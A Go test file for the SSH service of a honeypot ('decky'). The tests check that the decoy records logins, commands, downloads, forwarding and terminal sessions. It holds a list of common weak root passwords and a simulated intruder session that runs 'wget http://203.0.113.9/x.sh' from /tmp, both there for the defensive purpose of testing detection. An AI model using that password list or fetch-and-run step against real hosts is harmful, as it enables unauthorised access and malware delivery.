package ssh

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"
	"golang.org/x/crypto/ssh"

	"decnet/decoy"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/internal/sshwire"
	"decnet/decoy/shell"
)

// password returns one that the decky accepts for root, and fails the test if there is none.
func password(t *testing.T, h *decoy.Host) string {
	t.Helper()
	system := shell.SystemOf(h)
	for _, p := range []string{"123456", "password", "admin", "root", "12345678", "1234", "12345", "123456789", "qwerty", "toor", "changeme", "P@ssw0rd",
		"admin123", "root123", "test", "1q2w3e4r", "letmein", "ubuntu", "welcome", "password123"} {
		if system.Admits("root", p) {
			return p
		}
	}
	t.Fatal("no weak password lets root in")
	return ""
}

// client runs the real ssh client against the decky and returns what it prints, and whether it succeeded.
func client(t *testing.T, d *decoytest.Decky, password, stdin string, args ...string) (string, error) {
	t.Helper()
	host, port, _ := strings.Cut(d.Address(22), ":")
	return tool(t, password, stdin, append([]string{"ssh", "-p", port, "root@" + host}, args...)...)
}

// tool runs one of OpenSSH's clients with a password.
func tool(t *testing.T, password, stdin string, command ...string) (string, error) {
	t.Helper()
	if _, err := exec.LookPath("sshpass"); err != nil {
		t.Fatal("this test needs the real clients ssh and sshpass")
	}
	options := []string{
		"-e", command[0], "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=" + filepath.Join(t.TempDir(), "known"), "-o", "LogLevel=ERROR",
		"-o", "NumberOfPasswordPrompts=1",
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "sshpass", append(options, command[1:]...)...)
	cmd.Env = append(os.Environ(), "SSHPASS="+password)
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestRealClientRunsACommand(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	out, err := client(t, d, password(t, d.Host), "", "uname -n; id -u; exit 3")
	if exit := new(exec.ExitError); !asExit(err, &exit) || exit.ExitCode() != 3 || out != d.Host.Hostname+"\n0\n" {
		t.Errorf("%q, %v", out, err)
	}
	e := d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted), decoytest.Has(event.Principal, "root"))
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "uname -n; id -u; exit 3"), func(c event.Event) bool { return c.Session == e.Session })
	d.Wait("client", func(e event.Event) bool {
		version, _ := e.Get("client_version")
		hassh, _ := e.Get("hassh")
		return strings.HasPrefix(version, "SSH-2.0-OpenSSH") && len(hassh) == 32
	})
}

func asExit(err error, target **exec.ExitError) bool {
	exit := &exec.ExitError{}
	ok := errors.As(err, &exit)
	*target = exit
	return ok
}

func TestRealClientGetsAShell(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	out, err := client(t, d, password(t, d.Host), "cd /tmp\rwget http://203.0.113.9/x.sh\rnonesuch\recho $((6*7))\rexit\r", "-tt")
	if err != nil {
		t.Error(err)
	}
	for _, want := range []string{"root@" + d.Host.Hostname + ":/tmp# ", "-bash: nonesuch: command not found\r\n", "42\r\n", "logout\r\n", "failed: No route to host"} {
		if !strings.Contains(out, want) {
			t.Errorf("the session lacks %q:\n%s", want, out)
		}
	}
	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/x.sh"))
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "cd /tmp"))
}

func TestRealClientIsRefused(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	out, err := client(t, d, "no such password", "", "id")
	if err == nil {
		t.Errorf("%q, %v", out, err)
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Rejected), decoytest.Has(event.Secret, "no such password"), decoytest.Has(event.SecretKind, "plaintext"))
	d.Wait(event.Disconnect)
}

// dial connects a client of the library's.
func dial(t *testing.T, d *decoytest.Decky, auth ...ssh.AuthMethod) (*ssh.Client, error) {
	t.Helper()
	c, err := ssh.Dial("tcp", d.Address(22), &ssh.ClientConfig{User: "root", Auth: auth, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: time.Minute})
	if err == nil {
		t.Cleanup(func() { c.Close() })
	}
	return c, err
}

func TestEveryKeyIsRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	signer, err := ssh.NewSignerFromKey(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{1}, 32)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dial(t, d, ssh.PublicKeys(signer)); err == nil {
		t.Error("a key that nobody has installed lets in")
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.SecretKind, "publickey"), decoytest.Has("fingerprint", ssh.FingerprintSHA256(signer.PublicKey())),
		decoytest.Has(event.Secret, strings.TrimSpace(string(ssh.MarshalAuthorizedKey(signer.PublicKey())))))
}

func TestKeyboardInteractive(t *testing.T) {
	t.Parallel()
	id := decoytest.Identity()
	id.OS = "bsd" // whose sshd asks only so
	d := decoytest.StartAs(t, id, "ssh")
	asked := ""
	_, err := dial(t, d, ssh.KeyboardInteractive(func(_, _ string, questions []string, _ []bool) ([]string, error) {
		asked = strings.Join(questions, "|")
		return []string{"guess"}, nil
	}))
	if err == nil || asked != "Password for root@SRV-ALPHA-42:" {
		t.Errorf("it asks %q, %v", asked, err)
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.Secret, "guess"), decoytest.Has(event.Outcome, event.Rejected))
}

func TestForwardingAndSubsystemsAreRefusedAndRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	c, err := dial(t, d, ssh.Password(password(t, d.Host)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Dial("tcp", "203.0.113.9:25"); err == nil {
		t.Error("forwarding to somewhere else works")
	}
	if _, err := c.Listen("tcp", "0.0.0.0:8080"); err == nil {
		t.Error("forwarding from the decky works")
	}
	session, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := session.RequestSubsystem("netconf"); err == nil {
		t.Error("another subsystem works")
	}
	d.Wait("forward", decoytest.Has("direction", "local"), decoytest.Has("target", "203.0.113.9:25"))
	d.Wait("forward", decoytest.Has("direction", "remote"), decoytest.Has("target", "0.0.0.0:8080"))
	d.Wait("subsystem", decoytest.Has("name", "netconf"))
}

func TestChannelsShareTheMachine(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	c, err := dial(t, d, ssh.Password(password(t, d.Host)))
	if err != nil {
		t.Fatal(err)
	}
	for _, step := range []struct{ command, stdin, want string }{
		{"cat > /tmp/dropped", "payload", ""}, {"cat /tmp/dropped", "", "payload"}, {"sh", "echo from stdin\n", "from stdin\n"},
	} {
		session, err := c.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		session.Stdin = strings.NewReader(step.stdin)
		out, err := session.Output(step.command)
		if err != nil || string(out) != step.want {
			t.Errorf("%s: %q, %v", step.command, out, err)
		}
	}
	d.Wait("file_written", decoytest.Has("path", "/tmp/dropped"), decoytest.Has("content", "payload"))
	session, err := dialFrom(t, d, "127.0.0.77", ssh.Password(password(t, d.Host))).NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if out, err := session.Output("cat /tmp/dropped"); err == nil {
		t.Errorf("another intruder reads %q", out)
	}
}

func TestKeysAndVersionsAreTheDeckysOwn(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for b := range byte(3) {
		id := decoytest.Identity()
		id.Seed = bytes.Repeat([]byte{b}, 32)
		var keys []string
		for range 2 {
			h, err := decoy.NewHost(id, nil)
			if err != nil {
				t.Fatal(err)
			}
			v := &service{host: h, look: appearanceOf(h)}
			signers, err := v.hostKeys()
			if err != nil {
				t.Fatal(err)
			}
			all := v.look.version
			for _, s := range signers {
				all += " " + sshwire.FingerprintSHA256(s.PublicKey())
			}
			keys = append(keys, all)
		}
		if keys[0] != keys[1] {
			t.Errorf("after a restart %s, before %s", keys[1], keys[0])
		}
		for key := range strings.FieldsSeq(keys[0]) {
			if strings.HasPrefix(key, "SHA256:") {
				if seen[key] {
					t.Errorf("two deckies have the key %s", key)
				}
				seen[key] = true
			}
		}
	}
}

func TestOldClientsAreServed(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	for _, algorithm := range []string{ssh.KeyAlgoRSASHA512, ssh.KeyAlgoRSASHA256, ssh.KeyAlgoECDSA256, ssh.KeyAlgoED25519} {
		_, err := ssh.Dial("tcp", d.Address(22), &ssh.ClientConfig{User: "x", HostKeyCallback: ssh.InsecureIgnoreHostKey(), HostKeyAlgorithms: []string{algorithm}, Timeout: time.Minute})
		if err == nil || !strings.Contains(err.Error(), "unable to authenticate") {
			t.Errorf("%s: %v", algorithm, err)
		}
	}
}

func TestGarbageIsRecordedAsAVersion(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	conn := d.Dial(22)
	fmt.Fprint(conn, "GET / HTTP/1.1\r\n\r\n")
	d.Wait("client", decoytest.Has("client_version", "GET / HTTP/1.1"))
	if answer, _ := io.ReadAll(conn); !strings.HasSuffix(string(answer), "\r\nInvalid SSH identification string.\r\n") {
		t.Errorf("answer %q", answer)
	}
}

func FuzzClientOffer(f *testing.F) {
	f.Add([]byte("\x00\x00\x00\x10\x04\x14"))
	f.Fuzz(func(t *testing.T, packet []byte) {
		if offer := clientOffer(packet); offer != nil && len(offer) != 4 {
			t.Errorf("%d lists", len(offer))
		}
	})
}

func TestWhatATerminalShowsIsRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	client(t, d, password(t, d.Host), "uname -n\nexit\n", "-tt")
	e := d.Wait("terminal", decoytest.Has("part", "0"), func(e event.Event) bool {
		cast, _ := e.Get("cast")
		return strings.HasPrefix(cast, "{") && strings.Contains(cast, `"version":2`) && strings.Contains(cast, "uname -n") && strings.Contains(cast, d.Host.Hostname)
	})
	if cast, _ := e.Get("cast"); strings.Count(cast, "\n") < 3 {
		t.Errorf("the recording is %q", cast)
	}
}

// TestWhoOnlyAsksIsRecorded asks which methods there are, as a scanner does, and tries none of them; whoever goes on to a password leaves that alone.
func TestWhoOnlyAsksIsRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	if _, err := dial(t, d); err == nil {
		t.Error("nobody needs a password")
	}
	d.Wait("auth_method", decoytest.Has("user", "root"), decoytest.Has("method", "none"))
	if _, err := client(t, d, password(t, d.Host), "", "id"); err != nil {
		t.Error(err)
	}
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "id"))
	n := 0
	for _, e := range d.Events() {
		if e.Type == "auth_method" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d events tell of methods", n)
	}
}

// TestWhatAClientSetsUpIsRecorded is what it asks for beside a command: variables, and an agent to use others' hosts with.
func TestWhatAClientSetsUpIsRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "ssh")
	c, err := dial(t, d, ssh.Password(password(t, d.Host)))
	if err != nil {
		t.Fatal(err)
	}
	session, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	session.Setenv("LC_ALL", "ru_RU.UTF-8")
	session.Setenv("LD_PRELOAD", strings.Repeat("x", 64<<10))
	session.SendRequest("auth-agent-req@openssh.com", true, nil)
	if _, err := session.Output("id"); err != nil {
		t.Fatal(err)
	}
	e := d.Wait("env")
	if env, _ := e.Get("env"); !strings.HasPrefix(env, "LC_ALL=ru_RU.UTF-8\nLD_PRELOAD=xxx") || len(env) > maxEnv {
		t.Errorf("the variables are %.100q", env)
	}
	d.Wait("channel_request", decoytest.Has("request", "auth-agent-req@openssh.com"))
}
